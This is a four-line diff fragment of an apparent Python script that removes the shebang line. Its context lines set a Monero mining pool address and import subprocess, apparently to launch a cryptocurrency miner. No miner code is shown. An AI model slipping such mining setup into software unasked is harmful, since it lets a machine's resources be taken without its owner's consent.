@@ -1,4 +1,3 @@
-#!/usr/bin/env python3
 
 POOL = "stratum+tcp://pool.minexmr.com:4444"
 import subprocess
